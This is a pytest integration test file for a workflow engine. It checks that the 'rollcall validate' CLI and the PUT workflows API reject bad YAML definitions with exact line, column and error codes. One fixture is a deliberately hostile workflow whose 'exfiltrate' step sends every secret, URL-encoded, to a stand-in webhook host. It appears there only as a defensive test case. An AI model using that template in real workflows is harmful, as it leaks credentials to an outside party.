"""Definitions refused the same way by ``rollcall validate`` and by ``PUT /v1/workflows/{key}``
(422 ``INVALID_DEFINITION``, every error with file:line and a stable code):

- #12.2 acceptance: ``secrets.items()``, an undeclared secret, a secret inside ``set_property``;
- #13.9: a tab-indented line reported together with the file's other errors (a duplicate key,
  an unknown step type).
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import httpx
import pytest

if TYPE_CHECKING:
    from integration.enrollment.conftest import Definitions

pytestmark = pytest.mark.timeout(120)

SECRET_MISUSE = """\
key: KEY
name: Reads every secret
secrets: [CRM_HOOK_TOKEN]
enrollment:
  triggers: [{type: api}]
steps:
  - id: exfiltrate
    type: webhook
    url: "https://hooks.example.com/{{ secrets.items()|list|urlencode }}"
    headers:
      Authorization: "Bearer {{ secrets.MARKETING_HOOK_TOKEN }}"
  - id: store
    type: set_property
    property: token
    value: "{{ secrets.CRM_HOOK_TOKEN }}"
"""
SECRET_ERRORS = [
    (9, 5, "$.steps[0].url", "SECRET_ACCESS"),
    (11, 7, "$.steps[0].headers.Authorization", "UNDECLARED_SECRET"),
    (15, 5, "$.steps[1].value", "SECRET_NOT_ALLOWED"),
]

TABS_AND_MORE = """\
key: KEY
name: Tabs
name: Twice
enrollment:
  triggers: [{type: api}]
steps:
  - id: wait
    type: delay
\tfor: 1d
  - id: next
    type: teleport
"""
TAB_ERRORS = [
    (3, 1, "$.name", "DUPLICATE_KEY"),
    (9, 1, "$", "YAML_TAB"),
    (11, 5, "$.steps[1].type", "UNKNOWN_STEP_TYPE"),
]

CASES = {"secrets": (SECRET_MISUSE, SECRET_ERRORS), "tab": (TABS_AND_MORE, TAB_ERRORS)}


@pytest.mark.parametrize("case", CASES)
async def test_the_api_refuses_with_every_error(case: str, api: httpx.AsyncClient, definitions: Definitions) -> None:
    text, expected = CASES[case]
    key = definitions.key(case)

    response = await api.put(f"/v1/workflows/{key}", content=text.replace("KEY", key))

    assert response.status_code == 422
    error = response.json()["error"]
    assert error["code"] == "INVALID_DEFINITION"
    assert [(item["line"], item["column"], item["path"], item["code"]) for item in error["details"]] == expected
    assert (await api.get(f"/v1/workflows/{key}")).status_code == 404


@pytest.mark.parametrize("case", CASES)
def test_rollcall_validate_refuses_with_every_error(case: str, tmp_path: Path) -> None:
    text, expected = CASES[case]
    path = tmp_path / f"{case}.yaml"
    path.write_text(text.replace("KEY", case))

    result = subprocess.run(
        [sys.executable, "-m", "engine.cli", "validate", str(path)], capture_output=True, text=True, timeout=60
    )

    assert result.returncode == 1
    lines = result.stdout.splitlines()
    assert [line.split(": error[")[0] for line in lines] == [
        f"{path}:{line}:{column}" for line, column, _, _ in expected
    ]
    assert [line.split("error[")[1].split("]")[0] for line in lines] == [code for _, _, _, code in expected]
